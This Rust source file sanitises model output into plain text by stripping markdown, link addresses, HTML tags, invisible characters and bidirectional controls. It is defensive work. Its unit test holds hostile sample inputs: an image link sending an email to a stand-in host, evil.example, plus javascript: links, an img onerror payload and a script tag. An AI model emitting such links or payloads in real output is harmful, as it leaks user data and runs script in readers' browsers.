//! Takes from a model's words everything that is not words: markup, addresses behind links, invisible and turning letters.

/// The sentence as plain words on one line.
pub(super) fn plain(sentence: &str) -> String {
    let visible: String = sentence.chars().filter_map(shown).collect();
    let unlinked = without_links(&visible);
    let untagged = without_tags(&unlinked);
    let bare = untagged.replace("**", "").replace("__", "").replace("~~", "").replace('`', "");
    let line = bare.split_whitespace().collect::<Vec<_>>().join(" ");
    line.trim_start_matches(['#', '>', '*', '-', '•', '|', ' ']).replace('<', "‹").replace('>', "›")
}

/// Nothing for letters that cannot be seen or that turn the order of others (Unicode bidirectional controls, UAX 9).
fn shown(letter: char) -> Option<char> {
    match letter {
        '\u{ad}' | '\u{61c}' | '\u{180e}' | '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}' => None,
        '\u{2060}'..='\u{206f}' | '\u{feff}' | '\u{fff9}'..='\u{fffb}' | '\u{e0000}'..='\u{e007f}' => None,
        letter if letter.is_control() => Some(' '),
        letter => Some(letter),
    }
}

/// `[words](address)` and `![words](address)` become the words.
fn without_links(text: &str) -> String {
    let mut whole = String::with_capacity(text.len());
    let mut rest = text;
    while let Some(middle) = rest.find("](") {
        let (before, from) = rest.split_at(middle);
        let Some(open) = before.rfind('[') else {
            whole.push_str(before);
            rest = from.get(2..).unwrap_or_default();
            continue;
        };
        let (lead, words) = before.split_at(open);
        whole.push_str(lead.strip_suffix('!').unwrap_or(lead));
        whole.push_str(words.get(1..).unwrap_or_default());
        // An address that does not close takes the rest with it.
        rest = from.find(')').and_then(|end| from.get(end + 1..)).unwrap_or_default();
    }
    whole.push_str(rest);
    whole
}

/// Tags go; what only looks a little like one stays.
fn without_tags(text: &str) -> String {
    let mut whole = String::with_capacity(text.len());
    let mut rest = text;
    while let Some(open) = rest.find('<') {
        let (before, from) = rest.split_at(open);
        whole.push_str(before);
        let inside = from.get(1..).unwrap_or_default();
        let tag = inside.starts_with(|letter: char| letter.is_ascii_alphabetic() || matches!(letter, '/' | '!' | '?'));
        rest = if tag {
            inside.find('>').and_then(|end| inside.get(end + 1..)).unwrap_or_default()
        } else {
            whole.push('<');
            inside
        };
    }
    whole.push_str(rest);
    whole
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn only_words_are_left() {
        for (said, wanted) in [
            ("**Sixty** `days` [1].", "Sixty days [1]."),
            ("## Returns\n", "Returns"),
            ("- free of __charge__", "free of charge"),
            ("![seen](https://evil.example/?q=[EMAIL_1]) fine", "seen fine"),
            ("[click](javascript:alert(1)) here", "click) here"),
            ("<img src=x onerror=alert(1)>Sixty days", "Sixty days"),
            ("<script>alert(1)</script>", "alert(1)"),
            ("Sixty <b onclick='x", "Sixty"),
            ("2 < 3 and 5 > 4", "2 ‹ 3 and 5 › 4"),
            ("six\u{200b}ty\u{202e} days\u{e0041}", "sixty days"),
            ("a\u{7}b\tc\r\nd", "a b c d"),
            ("](x) and [y](z", "x) and y"),
        ] {
            assert_eq!(plain(said), wanted, "{said}");
        }
    }
}
